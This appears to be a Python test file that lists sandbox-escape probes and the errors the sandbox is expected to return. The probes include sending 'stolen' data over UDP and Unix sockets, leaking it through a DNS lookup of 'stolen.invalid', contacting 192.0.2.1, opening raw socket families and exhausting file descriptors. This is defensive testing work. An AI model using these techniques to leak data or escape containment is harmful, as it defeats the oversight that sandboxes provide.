"""Attacks that look for a way out: other machines, this machine's ports, sockets of every family."""

from tests.attacks.attack import Attack, Either, Per

ATTACKS = [
    Attack(
        77,
        "connect to another machine",
        """
import socket


def double(x):
    # an address that is kept for documentation
    return tried(socket.create_connection, ("192.0.2.1", 80), 1)
""",
        stops="seccomp; no network in bubblewrap's view",
        sees="EPERM",
        uncontrolled="no test sends anything to other machines",
    ),
    Attack(
        78,
        "connect to a port of this machine",
        """
import socket


def double(x):
    return tried(lambda: socket.create_connection(("127.0.0.1", PORT), 5).close())
""",
        stops="seccomp; no network in bubblewrap's view; Landlock",
        sees="EPERM",
        control="done",
    ),
    Attack(
        79,
        "send a UDP packet",
        """
import socket


def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"stolen", ("127.0.0.1", DATAGRAMS))


def double(x):
    return tried(send)
""",
        stops="seccomp; no network in bubblewrap's view",
        sees="EPERM",
        control="done",
    ),
    Attack(
        80,
        "smuggle data out in the name of a host",
        """
import socket


def double(x):
    return tried(socket.getaddrinfo, "127.0.0.1" if CONTROL else "stolen.invalid", 80)
""",
        stops="seccomp: no question leaves",
        sees="gaierror",
        text="no such host",
        uncontrolled="no test asks a name server",
    ),
    Attack(
        81,
        "download a model with torch.hub",
        """
import torch


def double(x):
    return tried(torch.hub.load_state_dict_from_url, "http://192.0.2.1/x.pt", model_dir=LEFT[0]) != "done"
""",
        stops="Landlock; seccomp",
        sees=True,
        text="an error",
        uncontrolled="no test sends anything to other machines",
        torch=True,
    ),
    Attack(
        82,
        "open sockets of rare families",
        """
import socket


def double(x):
    families = {"vsock": 40, "alg": 38, "netlink": 16, "packet": 17, "bluetooth": 31, "can": 29, "xdp": 44}
    found = {name: tried(socket.socket, family, socket.SOCK_RAW) for name, family in families.items()}
    return found["netlink"] if CONTROL else found
""",
        stops="seccomp",
        sees=dict.fromkeys(("vsock", "alg", "netlink", "packet", "bluetooth", "can", "xdp"), "EPERM"),
        control="done",
    ),
    Attack(
        270,
        "connect to a Unix socket of this machine, by path and by abstract name",
        """
import socket


def connect(address):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(address)


def double(x):
    return [tried(connect, address) for address in (PATH, ABSTRACT)]
""",
        stops="seccomp; Landlock",
        sees=["EPERM"] * 2,
        text="EPERM",
        control=["done"] * 2,
    ),
    Attack(
        271,
        "send a datagram to a Unix socket from one end of a socketpair, which needs no connect",
        """
import socket


def send(kind, address):
    one, other = socket.socketpair(socket.AF_UNIX, kind)
    one.sendto(b"stolen", address)


def double(x):
    kinds = (socket.SOCK_DGRAM,) if CONTROL else (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_DGRAM | 0x80000)
    return sorted({tried(send, kind, PACKETS) for kind in kinds})
""",
        stops="seccomp: only streams are paired; bubblewrap's view",
        sees=Per(Either(["EPERM"], ["ENOENT"]), ["EPERM"]),
        control=["done"],
    ),
    Attack(
        272,
        "send to an address over the connection to the grader",
        """
import socket


def double(x):
    sock = socket.socket(fileno=channel())
    try:
        return [tried(sock.sendto, b"stolen", address) for address in (PATH, PACKETS, ABSTRACT)]
    finally:
        sock.detach()
""",
        stops="a stream has no addresses",
        sees=["EISCONN"] * 3,
        text="EISCONN",
        uncontrolled="the kernel's rule, at every tier",
    ),
    Attack(
        273,
        "listen for others",
        """
import socket


def double(x):
    one, other = socket.socketpair()
    return {
        "server": tried(lambda: socket.create_server(("127.0.0.1", 0)).close()),
        "bind": tried(one.bind, "\\0" + LEFT[0]),
        "listen": tried(one.listen),
        "accept": tried(one.accept),
    } if not CONTROL else {"server": tried(lambda: socket.create_server(("127.0.0.1", 0)).close())}
""",
        stops="seccomp",
        sees=dict.fromkeys(("server", "bind", "listen", "accept"), "EPERM"),
        control={"server": "done"},
    ),
    Attack(
        274,
        "use the socketpair that asyncio needs for itself, and connect",
        """
import asyncio


async def connect():
    await asyncio.sleep(0)
    _, writer = await asyncio.open_connection("127.0.0.1", PORT)
    writer.close()


def double(x):
    return tried(asyncio.run, connect())
""",
        stops="seccomp; a loop without network works",
        sees="EPERM",
        control="done",
    ),
    Attack(
        275,
        "pass open files to itself until they are beyond its limit",
        """
import socket


def double(x):
    kept = 0
    try:
        while kept < 2000:
            one, other = socket.socketpair()
            for _ in range(10):
                socket.send_fds(one, [b"x"], [0] * 20)
                kept += 20
            os.close(other.detach())
    except OSError as error:
        return [errno.errorcode[error.errno] in ("EMFILE", "ETOOMANYREFS", "EPIPE", "EAGAIN"), kept < 2000]
    return [False, False]
""",
        stops="limits on open files and on files in flight",
        sees=[True, True],
        text="ETOOMANYREFS",
        uncontrolled="the kernel's limits hold at every tier, but for root",
    ),
    Attack(
        276,
        "write to the system's log",
        """
import syslog


def double(x):
    syslog.syslog("stolen")
    return tried(os.open, "/dev/log", os.O_WRONLY)
""",
        stops="seccomp; Landlock",
        sees=Per("ENOENT", Either("EACCES", "ENOENT", "ENXIO")),
        text="nothing is logged",
        uncontrolled="the log of the machine is left alone",
    ),
]
